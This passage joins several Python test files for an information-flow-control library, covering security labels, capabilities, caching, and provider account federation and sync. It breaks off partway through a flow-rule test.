class TestErrorPaths:
    """Satellite coverage: the ways linking and sync can fail."""

    def test_link_account_missing_on_b_only(self, providers):
        a, b = providers
        a.signup("solo", "pw")  # account exists on exactly one side
        link = ProviderLink(a, b)
        with pytest.raises(NoSuchUser):
            link.link_account("solo")
        assert link.state_of("solo") is None  # no half-linked state

    def test_link_account_missing_on_a_only(self, providers):
        a, b = providers
        b.signup("only-b", "pw")
        link = ProviderLink(a, b)
        with pytest.raises(NoSuchUser):
            link.link_account("only-b")
        assert link.state_of("only-b") is None

    def test_sync_unlinked_user_while_another_is_linked(self, link):
        link.link_account("bob")
        link.grant_sync("bob")
        with pytest.raises(SyncError):
            link.sync_user("eve")

    def test_grant_sync_before_link_fails(self, link):
        with pytest.raises(SyncError):
            link.grant_sync("bob")

    def test_one_sided_grants_compose(self, providers, link):
        a, b = providers
        link.link_account("bob")
        link.grant_sync("bob", on="b")
        with pytest.raises(NotAuthorized):
            link.sync_user("bob")
        link.grant_sync("bob", on="a")  # the other side completes it
        a.store_user_data("bob", "f", "x")
        assert link.sync_user("bob") == 1


class TestNaiveTwinConfig:
    """FederationConfig(delta_sync=False) keeps the original engine."""

    @pytest.fixture()
    def naive_link(self, providers):
        a, b = providers
        return ProviderLink(a, b, config=FederationConfig.naive())

    def _full_link(self, link):
        link.link_account("bob")
        link.grant_sync("bob")
        return link

    def test_propagation_and_idempotence(self, providers, naive_link):
        a, b = providers
        self._full_link(naive_link)
        a.store_user_data("bob", "f", "v1")
        assert naive_link.sync_user("bob") == 1
        assert b.read_user_data("bob", "f") == "v1"
        assert naive_link.sync_user("bob") == 0

    def test_conflict_still_resolves_for_a(self, providers, naive_link):
        a, b = providers
        self._full_link(naive_link)
        a.store_user_data("bob", "f", "from-A")
        b.store_user_data("bob", "f", "from-B")
        naive_link.sync_user("bob")
        assert b.read_user_data("bob", "f") == "from-A"

    def test_stats_report_engine_choice(self, providers, naive_link):
        stats = naive_link.federation_stats()
        assert stats["delta_sync"] is False
        assert "delta_rounds" not in stats


class TestDeltaEngine:
    """The default engine's cursor behavior, observable via stats."""

    def _full_link(self, link):
        link.link_account("bob")
        link.grant_sync("bob")
        return link

    def test_first_round_is_full_recon_then_delta(self, providers, link):
        a, __ = providers
        self._full_link(link)
        a.store_user_data("bob", "f", "v1")
        link.sync_user("bob")
        stats = link.federation_stats()
        assert stats["full_recons"] == 1 and stats["delta_rounds"] == 0
        link.sync_user("bob")
        stats = link.federation_stats()
        assert stats["full_recons"] == 1 and stats["delta_rounds"] == 1

    def test_quiet_delta_round_moves_nothing(self, providers, link):
        a, b = providers
        self._full_link(link)
        a.store_user_data("bob", "f", "v1")
        link.sync_user("bob")
        assert link.sync_user("bob") == 0
        # cursor is caught up on both sides
        lag = link.federation_stats()["cursor_lag"]["bob"]
        assert lag == {"a": 0, "b": 0}

    def test_delta_round_ships_only_the_dirty_file(self, providers, link):
        a, b = providers
        self._full_link(link)
        for i in range(5):
            a.store_user_data("bob", f"f{i}", f"v{i}")
        link.sync_user("bob")
        agent = a._user_agent(a.account("bob"))
        FsView(a.fs, agent).write("/users/bob/f3", "changed")
        a.kernel.exit(agent)
        assert link.sync_user("bob") == 1
        assert b.read_user_data("bob", "f3") == "changed"

    def test_deleted_file_resurrects_like_naive(self, providers, link):
        a, b = providers
        self._full_link(link)
        a.store_user_data("bob", "f", "keep")
        link.sync_user("bob")
        agent = a._user_agent(a.account("bob"))
        FsView(a.fs, agent).delete("/users/bob/f")
        a.kernel.exit(agent)
        link.sync_user("bob")
        # the naive pump never deletes: B's copy flows back to A
        assert a.read_user_data("bob", "f") == "keep"
        assert converged(link, "bob")

    def test_checkpoint_forces_one_full_recon(self, providers, link):
        a, __ = providers
        self._full_link(link)
        a.store_user_data("bob", "f", "v1")
        link.sync_user("bob")
        a._durability.checkpoint()  # journal reset: cursor goes stale
        link.sync_user("bob")
        stats = link.federation_stats()
        assert stats["full_recons"] == 2

    def test_replace_provider_requires_membership(self, providers, link):
        other = Provider(name="w5-gamma")
        with pytest.raises(SyncError):
            link.replace_provider(other, other)
