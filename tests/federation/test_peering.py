"""Unit tests for provider peering and account mirroring."""

import pytest

from repro.federation import ProviderLink, SyncError, converged
from repro.fs import FsView
from repro.platform import NoSuchUser, NotAuthorized, Provider


@pytest.fixture()
def providers():
    a = Provider(name="w5-alpha")
    b = Provider(name="w5-beta")
    a.signup("bob", "pw")
    b.signup("bob", "pw")
    a.signup("eve", "pw")
    b.signup("eve", "pw")
    return a, b


@pytest.fixture()
def link(providers):
    a, b = providers
    return ProviderLink(a, b)


class TestLinking:
    def test_self_peering_rejected(self, providers):
        a, __ = providers
        with pytest.raises(SyncError):
            ProviderLink(a, a)

    def test_link_requires_both_accounts(self, link):
        with pytest.raises(NoSuchUser):
            link.link_account("ghost")

    def test_link_and_state(self, link):
        state = link.link_account("bob")
        assert not state.granted_on_a and not state.granted_on_b
        assert link.state_of("bob") is state
        assert link.state_of("nobody") is None

    def test_sync_without_link_fails(self, link):
        with pytest.raises(SyncError):
            link.sync_user("bob")

    def test_sync_without_grants_fails(self, link):
        link.link_account("bob")
        with pytest.raises(NotAuthorized):
            link.sync_user("bob")

    def test_one_sided_grant_insufficient(self, link):
        link.link_account("bob")
        link.grant_sync("bob", on="a")
        with pytest.raises(NotAuthorized):
            link.sync_user("bob")


class TestSync:
    def _full_link(self, link):
        link.link_account("bob")
        link.grant_sync("bob")
        return link

    def test_a_to_b_propagation(self, providers, link):
        a, b = providers
        self._full_link(link)
        a.store_user_data("bob", "diary.txt", "day one")
        moved = link.sync_user("bob")
        assert moved == 1
        assert b.read_user_data("bob", "diary.txt") == "day one"
        assert converged(link, "bob")

    def test_b_to_a_propagation(self, providers, link):
        a, b = providers
        self._full_link(link)
        b.store_user_data("bob", "notes.txt", "from beta")
        link.sync_user("bob")
        assert a.read_user_data("bob", "notes.txt") == "from beta"

    def test_update_propagates(self, providers, link):
        a, b = providers
        self._full_link(link)
        a.store_user_data("bob", "f", "v1")
        link.sync_user("bob")
        # user edits on A; next round carries the edit
        agent = a._user_agent(a.account("bob"))
        FsView(a.fs, agent).write("/users/bob/f", "v2")
        a.kernel.exit(agent)
        link.sync_user("bob")
        assert b.read_user_data("bob", "f") == "v2"

    def test_sync_is_idempotent(self, providers, link):
        a, __ = providers
        self._full_link(link)
        a.store_user_data("bob", "f", "v1")
        assert link.sync_user("bob") == 1
        assert link.sync_user("bob") == 0

    def test_conflict_resolves_deterministically(self, providers, link):
        a, b = providers
        self._full_link(link)
        a.store_user_data("bob", "f", "from-A")
        b.store_user_data("bob", "f", "from-B")
        link.sync_user("bob")
        # A is pumped first: A's content wins on both sides
        assert a.read_user_data("bob", "f") == "from-A"
        assert b.read_user_data("bob", "f") == "from-A"
        assert converged(link, "bob")

    def test_only_linked_users_data_moves(self, providers, link):
        a, b = providers
        self._full_link(link)
        a.store_user_data("eve", "private.txt", "eves-stuff")
        link.sync_user("bob")
        # eve never linked: her file stays on A only
        from repro.fs import NoSuchPath
        with pytest.raises(Exception):
            b.read_user_data("eve", "private.txt")

    def test_mirrored_data_still_protected_on_b(self, providers, link):
        """The §3.3 requirement: the mirror is as protected on B as the
        original on A — eve on B cannot read bob's mirrored diary."""
        a, b = providers
        self._full_link(link)
        a.store_user_data("bob", "diary.txt", "BOBS-MIRRORED-SECRET")
        link.sync_user("bob")
        eve_proc = b.kernel.spawn_trusted("eve-snoop")
        from repro.labels import SecrecyViolation
        with pytest.raises(SecrecyViolation):
            FsView(b.fs, eve_proc).read("/users/bob/diary.txt")

    def test_transfer_counter(self, providers, link):
        a, __ = providers
        self._full_link(link)
        a.store_user_data("bob", "f1", "x")
        a.store_user_data("bob", "f2", "y")
        link.sync_user("bob")
        assert link.state_of("bob").transfers == 2
