"""Unit tests for label/capability serialization across registries."""

import json

import pytest

from repro.labels import (CapabilitySet, Label, TagError, TagRegistry,
                          capability_from_dict, capability_to_dict,
                          capset_from_dict, capset_to_dict, label_from_dict,
                          label_to_dict, minus, plus)


@pytest.fixture()
def reg_a():
    return TagRegistry(namespace="A")


@pytest.fixture()
def reg_b():
    return TagRegistry(namespace="B")


class TestLabelSerialization:
    def test_same_registry_roundtrip(self, reg_a):
        tags = [reg_a.create(purpose=f"t{i}") for i in range(3)]
        lbl = Label(tags)
        data = label_to_dict(lbl, reg_a.namespace)
        assert label_from_dict(data, reg_a) == lbl

    def test_json_stable(self, reg_a):
        lbl = Label([reg_a.create()])
        data = label_to_dict(lbl, reg_a.namespace)
        assert json.loads(json.dumps(data)) == data

    def test_cross_registry_import(self, reg_a, reg_b):
        t = reg_a.create(purpose="bob", owner="bob")
        data = label_to_dict(Label([t]), reg_a.namespace)
        local = label_from_dict(data, reg_b)
        (lt,) = local.tags()
        assert reg_b.foreign_origin(lt) == ("A", t.tag_id)
        assert lt.owner == "bob"

    def test_cross_registry_import_converges(self, reg_a, reg_b):
        t = reg_a.create()
        data = label_to_dict(Label([t]), reg_a.namespace)
        first = label_from_dict(data, reg_b)
        second = label_from_dict(data, reg_b)
        assert first == second

    def test_unknown_native_tag_raises(self, reg_a):
        data = {"namespace": "A", "tags": [{"tag_id": 404, "purpose": "",
                                            "kind": "secrecy", "owner": None}]}
        with pytest.raises(TagError):
            label_from_dict(data, reg_a)

    def test_empty_label_roundtrip(self, reg_a):
        data = label_to_dict(Label(), reg_a.namespace)
        assert label_from_dict(data, reg_a) == Label()


class TestCapabilitySerialization:
    def test_capability_roundtrip(self, reg_a):
        t = reg_a.create()
        for cap in (plus(t), minus(t)):
            data = capability_to_dict(cap, reg_a.namespace)
            assert capability_from_dict(data, reg_a) == cap

    def test_bad_sign_rejected(self, reg_a):
        t = reg_a.create()
        data = capability_to_dict(plus(t), reg_a.namespace)
        data["sign"] = "!"
        with pytest.raises(TagError):
            capability_from_dict(data, reg_a)

    def test_capset_roundtrip(self, reg_a):
        t, u = reg_a.create(), reg_a.create()
        caps = CapabilitySet([plus(t), minus(t), plus(u)])
        data = capset_to_dict(caps, reg_a.namespace)
        assert capset_from_dict(data, reg_a) == caps

    def test_capset_cross_registry(self, reg_a, reg_b):
        t = reg_a.create(purpose="sync")
        caps = CapabilitySet.owning(t)
        data = capset_to_dict(caps, reg_a.namespace)
        local = capset_from_dict(data, reg_b)
        assert len(local) == 2
        owned = local.owned_tags()
        assert len(owned) == 1
