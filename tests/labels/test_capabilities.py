"""Unit tests for capabilities and capability sets."""

import pytest

from repro.labels import Capability, CapabilitySet, Label, TagRegistry, minus, plus


@pytest.fixture()
def reg():
    return TagRegistry()


@pytest.fixture()
def t(reg):
    return reg.create(purpose="bob")


@pytest.fixture()
def u(reg):
    return reg.create(purpose="alice")


class TestCapability:
    def test_sign_validation(self, t):
        with pytest.raises(ValueError):
            Capability(t, "*")

    def test_plus_minus_helpers(self, t):
        assert plus(t).sign == "+"
        assert minus(t).sign == "-"

    def test_equality(self, t):
        assert plus(t) == Capability(t, "+")
        assert plus(t) != minus(t)


class TestCapabilitySetViews:
    def test_plus_minus_views(self, t, u):
        caps = CapabilitySet([plus(t), minus(u)])
        assert caps.plus_tags == Label([t])
        assert caps.minus_tags == Label([u])

    def test_owned_requires_both_signs(self, t, u):
        caps = CapabilitySet([plus(t), minus(t), plus(u)])
        assert caps.owns(t)
        assert not caps.owns(u)
        assert caps.owned_tags() == Label([t])

    def test_can_add_and_remove(self, t):
        caps = CapabilitySet([plus(t)])
        assert caps.can_add(t)
        assert not caps.can_remove(t)

    def test_empty_set(self, t):
        assert not CapabilitySet.EMPTY.can_add(t)
        assert len(CapabilitySet.EMPTY) == 0


class TestCapabilitySetAlgebra:
    def test_owning_constructor(self, t, u):
        caps = CapabilitySet.owning(t, u)
        assert caps.owns(t) and caps.owns(u)
        assert len(caps) == 4

    def test_grant_revoke(self, t, u):
        caps = CapabilitySet([plus(t)])
        grown = caps.grant(minus(t), plus(u))
        assert grown.owns(t) and grown.can_add(u)
        shrunk = grown.revoke(plus(u))
        assert not shrunk.can_add(u)
        # original untouched
        assert not caps.owns(t)

    def test_union_and_difference(self, t, u):
        a = CapabilitySet([plus(t)])
        b = CapabilitySet([minus(t), plus(u)])
        assert (a | b).owns(t)
        assert not ((a | b) - b).owns(t)

    def test_restricted_to(self, t, u):
        full = CapabilitySet.owning(t, u)
        narrowed = full.restricted_to([plus(t)])
        assert narrowed.can_add(t)
        assert not narrowed.can_remove(t)
        assert not narrowed.can_add(u)

    def test_subset_order(self, t, u):
        small = CapabilitySet([plus(t)])
        big = CapabilitySet([plus(t), minus(u)])
        assert small <= big
        assert not big <= small

    def test_hash_and_eq(self, t):
        assert CapabilitySet([plus(t)]) == CapabilitySet([plus(t)])
        assert hash(CapabilitySet([plus(t)])) == hash(CapabilitySet([plus(t)]))
