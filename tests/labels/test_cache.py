"""Interning and the FlowCache memoization layer.

Covers the two pillars of the fast-path label engine: (1) ``Label`` and
``CapabilitySet`` intern, so equal values are the *same object* and the
cache may key on them forever; (2) ``FlowCache`` returns exactly what
the uncached decision procedure returns, while counting hits, misses,
and invalidations.
"""

import copy
import pickle

import pytest

from repro.labels import (CapabilitySet, FlowCache, Label, SecrecyViolation,
                          TagRegistry, can_flow, exportable_tags, minus, plus)
from repro.labels import flow


@pytest.fixture
def reg():
    return TagRegistry(namespace="cache-test")


class TestLabelInterning:
    def test_equal_labels_are_identical(self, reg):
        t, u = reg.create(), reg.create()
        assert Label([t, u]) is Label([u, t])

    def test_empty_label_is_the_shared_empty(self):
        assert Label() is Label.EMPTY
        assert Label([]) is Label.EMPTY

    def test_operations_return_interned_results(self, reg):
        t, u = reg.create(), reg.create()
        a, b = Label([t]), Label([u])
        assert (a | b) is Label([t, u])
        assert (a - a) is Label.EMPTY
        assert (a & b) is Label.EMPTY
        assert ((a | b) - b) is a

    def test_pickle_round_trip_reinterns(self, reg):
        t = reg.create()
        lab = Label([t])
        assert pickle.loads(pickle.dumps(lab)) is lab

    def test_deepcopy_reinterns(self, reg):
        t = reg.create()
        lab = Label([t])
        assert copy.deepcopy(lab) is lab

    def test_same_tag_id_different_owner_not_merged(self, reg):
        """Tags compare by id, but interning must not substitute one
        registry's tag metadata for another's (see test_serial's
        cross-registry import)."""
        other = TagRegistry(namespace="cache-test-b")
        t1 = reg.create(owner="alice")
        t2 = other.create(owner="bob")
        assert t1 == t2  # same id: equal by the tag contract
        l1, l2 = Label([t1]), Label([t2])
        assert l1 is not l2
        assert next(iter(l1)).owner == "alice"
        assert next(iter(l2)).owner == "bob"


class TestCapabilitySetInterning:
    def test_equal_sets_are_identical(self, reg):
        t = reg.create()
        assert CapabilitySet([plus(t), minus(t)]) is CapabilitySet.owning(t)

    def test_empty_is_shared(self):
        assert CapabilitySet() is CapabilitySet.EMPTY

    def test_pickle_round_trip_reinterns(self, reg):
        t = reg.create()
        caps = CapabilitySet([plus(t)])
        assert pickle.loads(pickle.dumps(caps)) is caps

    def test_derived_labels_precomputed_and_interned(self, reg):
        t, u = reg.create(), reg.create()
        caps = CapabilitySet([plus(t), minus(u)])
        assert caps.plus_tags is Label([t])
        assert caps.minus_tags is Label([u])


class _FakeSubject:
    """Minimal duck-typed Subject for the verdict layer."""

    def __init__(self, pid, slabel, ilabel, caps):
        self.pid = pid
        self.label_epoch = 0
        self.slabel = slabel
        self.ilabel = ilabel
        self.caps = caps


class TestFlowCacheMemos:
    def test_agrees_with_uncached_and_counts(self, reg):
        t = reg.create()
        cache = FlowCache()
        tainted, clean = Label([t]), Label.EMPTY
        for _ in range(3):
            assert cache.can_flow(tainted, clean, clean, clean) is \
                can_flow(tainted, clean, clean, clean)
            assert cache.can_flow(clean, clean, tainted, clean) is \
                can_flow(clean, clean, tainted, clean)
        s = cache.stats()
        assert s["miss_total"] == 2 and s["hit_total"] == 4
        assert 0 < cache.hit_rate() < 1

    def test_disabled_cache_is_pass_through(self, reg):
        t = reg.create()
        cache = FlowCache(enabled=False)
        for _ in range(5):
            cache.can_flow(Label([t]), Label.EMPTY, Label.EMPTY, Label.EMPTY)
        s = cache.stats()
        assert s["hit_total"] == 0 and s["miss_total"] == 0
        assert s["entries"] == 0 and s["enabled"] is False

    def test_check_flow_denial_matches_uncached_diagnostics(self, reg):
        t = reg.create(purpose="secret")
        cache = FlowCache()
        args = (Label([t]), Label.EMPTY, Label.EMPTY, Label.EMPTY)
        with pytest.raises(SecrecyViolation) as cached_err:
            cache.check_flow(*args, what="unit")
        with pytest.raises(SecrecyViolation) as uncached_err:
            flow.check_flow(*args, what="unit")
        assert str(cached_err.value) == str(uncached_err.value)
        # the deny itself is also served from the memo the second time
        with pytest.raises(SecrecyViolation):
            cache.check_flow(*args, what="unit")
        assert cache.stats()["hits"].get("ipc", 0) >= 1

    def test_exportable_residue_memoized(self, reg):
        t, u = reg.create(), reg.create()
        cache = FlowCache()
        lab, caps = Label([t, u]), CapabilitySet([minus(t)])
        for _ in range(3):
            assert cache.exportable_residue(lab, caps) is \
                exportable_tags(lab, caps)
        assert cache.stats()["hits"]["export"] == 2

    def test_eviction_bounds_the_tables(self, reg):
        cache = FlowCache(max_entries=4)
        labels = [Label([reg.create()]) for _ in range(10)]
        for lab in labels:
            cache.can_flow_secrecy(lab, lab)
        s = cache.stats()
        assert s["evictions"] >= 1
        assert len(cache._secrecy) <= 4


class TestSubjectVerdicts:
    def test_scan_hits_after_first_row(self, reg):
        t = reg.create()
        subj = _FakeSubject(1, Label.EMPTY, Label.EMPTY, CapabilitySet.EMPTY)
        cache = FlowCache()
        row_label = Label([t])
        verdicts = [cache.readable(subj, row_label, Label.EMPTY)
                    for _ in range(50)]
        assert verdicts == [False] * 50
        s = cache.stats()
        assert s["misses"]["read"] == 1 and s["hits"]["read"] == 49

    def test_epoch_bump_drops_stale_verdicts(self, reg):
        t = reg.create()
        subj = _FakeSubject(1, Label.EMPTY, Label.EMPTY, CapabilitySet.EMPTY)
        cache = FlowCache()
        assert cache.readable(subj, Label([t]), Label.EMPTY) is False
        # trusted code mutates the subject without a kernel syscall:
        # the epoch is the only guard, and it must be enough
        subj.slabel = Label([t])
        subj.label_epoch += 1
        assert cache.readable(subj, Label([t]), Label.EMPTY) is True
        assert cache.stats()["stale_drops"] == 1

    def test_invalidate_subject_observable(self, reg):
        t = reg.create()
        subj = _FakeSubject(7, Label([t]), Label.EMPTY,
                            CapabilitySet.owning(t))
        cache = FlowCache()
        cache.readable(subj, Label([t]), Label.EMPTY)
        cache.invalidate_subject(7, reason="label-change")
        cache.invalidate_subject(7, reason="label-change")  # no entry: no-op
        s = cache.stats()
        assert s["invalidations"] == {"label-change": 1}
        assert 7 not in cache._subjects

    def test_invalidate_all_clears_everything(self, reg):
        t = reg.create()
        cache = FlowCache()
        cache.can_flow_secrecy(Label([t]), Label.EMPTY)
        subj = _FakeSubject(1, Label.EMPTY, Label.EMPTY, CapabilitySet.EMPTY)
        cache.readable(subj, Label([t]), Label.EMPTY)
        assert cache.stats()["entries"] > 0
        cache.invalidate_all(reason="registry-restore")
        s = cache.stats()
        assert s["entries"] == 0
        assert s["invalidations"]["registry-restore"] == 1
