"""Property-based tests (hypothesis) for the label lattice and flow rules.

These check the algebraic laws the rest of the system silently relies
on: the lattice axioms, monotonicity of the flow relation, and the
central DIFC conservation property — no sequence of individually-safe
operations can shed a secrecy tag without its '-' capability.
"""

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.labels import (CapabilitySet, Label, TagRegistry, can_flow_secrecy,
                          label_change_allowed, minus, plus)

_REG = TagRegistry()
_UNIVERSE = [_REG.create(purpose=f"u{i}") for i in range(8)]


def labels():
    return st.sets(st.sampled_from(_UNIVERSE), max_size=8).map(Label)


def capsets():
    cap = st.sampled_from(
        [plus(t) for t in _UNIVERSE] + [minus(t) for t in _UNIVERSE])
    return st.sets(cap, max_size=10).map(CapabilitySet)


class TestLatticeLaws:
    @given(labels(), labels())
    def test_join_commutative(self, a, b):
        assert a | b == b | a

    @given(labels(), labels())
    def test_meet_commutative(self, a, b):
        assert a & b == b & a

    @given(labels(), labels(), labels())
    def test_join_associative(self, a, b, c):
        assert (a | b) | c == a | (b | c)

    @given(labels(), labels(), labels())
    def test_meet_associative(self, a, b, c):
        assert (a & b) & c == a & (b & c)

    @given(labels())
    def test_idempotence(self, a):
        assert a | a == a
        assert a & a == a

    @given(labels(), labels())
    def test_absorption(self, a, b):
        assert a | (a & b) == a
        assert a & (a | b) == a

    @given(labels(), labels())
    def test_join_is_least_upper_bound(self, a, b):
        j = a | b
        assert a <= j and b <= j

    @given(labels(), labels(), labels())
    def test_order_transitive(self, a, b, c):
        if a <= b and b <= c:
            assert a <= c

    @given(labels(), labels())
    def test_order_antisymmetric(self, a, b):
        if a <= b and b <= a:
            assert a == b


class TestFlowLaws:
    @given(labels())
    def test_flow_reflexive(self, a):
        assert can_flow_secrecy(a, a)

    @given(labels(), labels(), labels())
    def test_flow_transitive_without_caps(self, a, b, c):
        if can_flow_secrecy(a, b) and can_flow_secrecy(b, c):
            assert can_flow_secrecy(a, c)

    @given(labels(), labels(), labels())
    def test_flow_monotone_in_receiver(self, a, b, extra):
        # enlarging the receiver's label never breaks a safe flow
        if can_flow_secrecy(a, b):
            assert can_flow_secrecy(a, b | extra)

    @given(labels(), labels(), capsets())
    def test_caps_only_enable_flows(self, a, b, d):
        # capabilities are permissions: they can only allow more, never less
        if can_flow_secrecy(a, b):
            assert can_flow_secrecy(a, b, d_to=d)
            assert can_flow_secrecy(a, b, d_from=d)

    @given(labels(), labels())
    def test_flow_agrees_with_subset_without_caps(self, a, b):
        assert can_flow_secrecy(a, b) == (a <= b)


class TestConservation:
    """The DIFC safety core: taint is conserved without a '-' capability."""

    @settings(max_examples=200)
    @given(labels(), labels(), capsets())
    def test_label_change_cannot_shed_unowned_taint(self, old, new, caps):
        if label_change_allowed(old, new, caps):
            shed = old - new
            assert shed <= caps.minus_tags

    @settings(max_examples=200)
    @given(labels(), labels(), capsets(), capsets())
    def test_flow_cannot_launder_taint(self, s_from, s_to, d_from, d_to):
        """If a flow is allowed, every tag that 'disappears' was either
        declassifiable by the sender or addable by the receiver."""
        if can_flow_secrecy(s_from, s_to, d_from, d_to):
            vanished = s_from - s_to
            assert vanished <= (d_from.minus_tags | d_to.plus_tags)

    @settings(max_examples=200)
    @given(labels(), st.lists(st.tuples(labels(), capsets(), capsets()),
                              max_size=5))
    def test_multi_hop_chain_conserves_taint(self, start, hops):
        """Walk a chain of safe flows; any tag lost along the way must be
        accounted for by a '-' at the shedding hop or a '+' downstream."""
        current = start
        authorized = Label()
        for (nxt, d_from, d_to) in hops:
            if not can_flow_secrecy(current, nxt, d_from, d_to):
                continue
            authorized = authorized | d_from.minus_tags | d_to.plus_tags
            current = nxt
        lost = start - current
        assert lost <= authorized
