"""Unit tests for the Label lattice type."""

import pytest

from repro.labels import Label, TagRegistry


@pytest.fixture()
def reg():
    return TagRegistry()


@pytest.fixture()
def tags(reg):
    return [reg.create(purpose=f"t{i}") for i in range(4)]


class TestConstruction:
    def test_empty_label(self):
        assert len(Label()) == 0
        assert Label().is_empty()

    def test_empty_singleton_shared(self):
        assert Label.EMPTY == Label()

    def test_from_iterable(self, tags):
        lbl = Label(tags[:2])
        assert tags[0] in lbl and tags[1] in lbl
        assert tags[2] not in lbl

    def test_duplicates_collapse(self, tags):
        assert len(Label([tags[0], tags[0]])) == 1

    def test_non_tag_rejected(self):
        with pytest.raises(TypeError):
            Label(["not-a-tag"])  # type: ignore[list-item]

    def test_equality_with_sets(self, tags):
        assert Label(tags[:2]) == frozenset(tags[:2])
        assert Label(tags[:2]) == set(tags[:2])


class TestLatticeOps:
    def test_join_is_union(self, tags):
        a, b = Label(tags[:2]), Label(tags[1:3])
        assert a.join(b) == Label(tags[:3])
        assert (a | b) == a.join(b)

    def test_meet_is_intersection(self, tags):
        a, b = Label(tags[:2]), Label(tags[1:3])
        assert a.meet(b) == Label([tags[1]])
        assert (a & b) == a.meet(b)

    def test_subtraction(self, tags):
        a = Label(tags[:3])
        assert a - Label(tags[:1]) == Label(tags[1:3])

    def test_order_is_subset(self, tags):
        assert Label(tags[:1]) <= Label(tags[:2])
        assert not Label(tags[:2]) <= Label(tags[:1])
        assert Label(tags[:1]) < Label(tags[:2])
        assert Label(tags[:2]) >= Label(tags[:1])
        assert Label(tags[:2]) > Label(tags[:1])

    def test_incomparable_labels(self, tags):
        a, b = Label([tags[0]]), Label([tags[1]])
        assert not a <= b and not b <= a

    def test_empty_is_bottom(self, tags):
        assert Label.EMPTY <= Label(tags)


class TestImmutability:
    def test_add_returns_new(self, tags):
        a = Label([tags[0]])
        b = a.add(tags[1])
        assert tags[1] not in a
        assert tags[1] in b

    def test_remove_returns_new(self, tags):
        a = Label(tags[:2])
        b = a.remove(tags[0])
        assert tags[0] in a
        assert tags[0] not in b

    def test_remove_absent_is_noop(self, tags):
        a = Label([tags[0]])
        assert a.remove(tags[3]) == a

    def test_hashable_and_usable_as_dict_key(self, tags):
        d = {Label(tags[:2]): "x"}
        assert d[Label(tags[:2])] == "x"

    def test_iteration_yields_tags(self, tags):
        assert set(Label(tags)) == set(tags)
