"""Table-driven conformance tests against the Flume rules (DESIGN.md §5).

Each case spells out a scenario from the normative semantics in terms
of tag letters and expected verdicts, so a change to the flow rules
that silently altered the model would fail here with a readable name.
"""

import pytest

from repro.labels import (CapabilitySet, Label, TagRegistry, can_flow,
                          can_flow_integrity, can_flow_secrecy,
                          label_change_allowed, minus, plus)

_REG = TagRegistry()
A, B, C = (_REG.create(purpose=p) for p in "abc")


def L(*tags):
    return Label(tags)


def D(*caps):
    return CapabilitySet(caps)


SECRECY_CASES = [
    # (name, S_from, S_to, D_from, D_to, expected)
    ("equal labels flow", L(A), L(A), D(), D(), True),
    ("subset flows up", L(A), L(A, B), D(), D(), True),
    ("superset cannot flow down", L(A, B), L(A), D(), D(), False),
    ("disjoint blocked", L(A), L(B), D(), D(), False),
    ("sender minus sheds", L(A), L(), D(minus(A)), D(), True),
    ("sender minus sheds into disjoint", L(A), L(B), D(minus(A)), D(), True),
    ("receiver plus absorbs", L(A), L(), D(), D(plus(A)), True),
    ("sender plus useless", L(A), L(), D(plus(A)), D(), False),
    ("receiver minus useless", L(A), L(), D(), D(minus(A)), False),
    ("partial shed insufficient", L(A, B), L(), D(minus(A)), D(), False),
    ("shed+absorb combine", L(A, B), L(), D(minus(A)), D(plus(B)), True),
    ("empty to empty", L(), L(), D(), D(), True),
    ("empty flows anywhere", L(), L(A, B, C), D(), D(), True),
]


INTEGRITY_CASES = [
    # (name, I_from, I_to, D_from, D_to, expected)
    ("no requirement", L(), L(), D(), D(), True),
    ("requirement met", L(A), L(A), D(), D(), True),
    ("higher integrity ok", L(A, B), L(A), D(), D(), True),
    ("requirement unmet", L(), L(A), D(), D(), False),
    ("sender plus claims", L(), L(A), D(plus(A)), D(), True),
    ("receiver minus waives", L(), L(A), D(), D(minus(A)), True),
    ("sender minus useless", L(), L(A), D(minus(A)), D(), False),
    ("receiver plus useless", L(), L(A), D(), D(plus(A)), False),
    ("partial claim insufficient", L(), L(A, B), D(plus(A)), D(), False),
]


CHANGE_CASES = [
    # (name, old, new, caps, expected)
    ("noop", L(A), L(A), D(), True),
    ("add with plus", L(), L(A), D(plus(A)), True),
    ("add without plus", L(), L(A), D(minus(A)), False),
    ("drop with minus", L(A), L(), D(minus(A)), True),
    ("drop without minus", L(A), L(), D(plus(A)), False),
    ("swap with both", L(A), L(B), D(minus(A), plus(B)), True),
    ("swap missing drop", L(A), L(B), D(plus(B)), False),
    ("swap missing add", L(A), L(B), D(minus(A)), False),
    ("multi add", L(), L(A, B), D(plus(A), plus(B)), True),
    ("multi add partial", L(), L(A, B), D(plus(A)), False),
]


class TestSecrecyConformance:
    @pytest.mark.parametrize(
        "name,s_from,s_to,d_from,d_to,expected", SECRECY_CASES,
        ids=[c[0] for c in SECRECY_CASES])
    def test_case(self, name, s_from, s_to, d_from, d_to, expected):
        assert can_flow_secrecy(s_from, s_to, d_from, d_to) == expected


class TestIntegrityConformance:
    @pytest.mark.parametrize(
        "name,i_from,i_to,d_from,d_to,expected", INTEGRITY_CASES,
        ids=[c[0] for c in INTEGRITY_CASES])
    def test_case(self, name, i_from, i_to, d_from, d_to, expected):
        assert can_flow_integrity(i_from, i_to, d_from, d_to) == expected


class TestLabelChangeConformance:
    @pytest.mark.parametrize(
        "name,old,new,caps,expected", CHANGE_CASES,
        ids=[c[0] for c in CHANGE_CASES])
    def test_case(self, name, old, new, caps, expected):
        assert label_change_allowed(old, new, caps) == expected


class TestCombinedRule:
    def test_both_dimensions_must_pass(self):
        # secrecy ok, integrity not
        assert not can_flow(L(), L(), L(), L(A))
        # integrity ok, secrecy not
        assert not can_flow(L(A), L(), L(), L())
        # both ok
        assert can_flow(L(A), L(B), L(A), L(), d_from=D(plus(B)))
