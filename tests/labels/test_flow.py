"""Unit tests for the flow and label-change rules."""

import pytest

from repro.labels import (CapabilityError, CapabilitySet, IntegrityViolation,
                          Label, SecrecyViolation, TagRegistry, can_flow,
                          can_flow_integrity, can_flow_secrecy, check_flow,
                          check_label_change, endpoint_label_legal,
                          exportable_tags, label_change_allowed, minus, owns_all,
                          plus, reachable_secrecy_range, tag_in_reach)


@pytest.fixture()
def reg():
    return TagRegistry()


@pytest.fixture()
def bob(reg):
    return reg.create(purpose="bob-secret", owner="bob")


@pytest.fixture()
def alice(reg):
    return reg.create(purpose="alice-secret", owner="alice")


@pytest.fixture()
def endorse(reg):
    return reg.create(purpose="provider-endorsed", kind="integrity")


E = CapabilitySet.EMPTY


class TestSecrecyFlow:
    def test_subset_flows(self, bob):
        assert can_flow_secrecy(Label([bob]), Label([bob]))
        assert can_flow_secrecy(Label(), Label([bob]))

    def test_superset_blocked(self, bob):
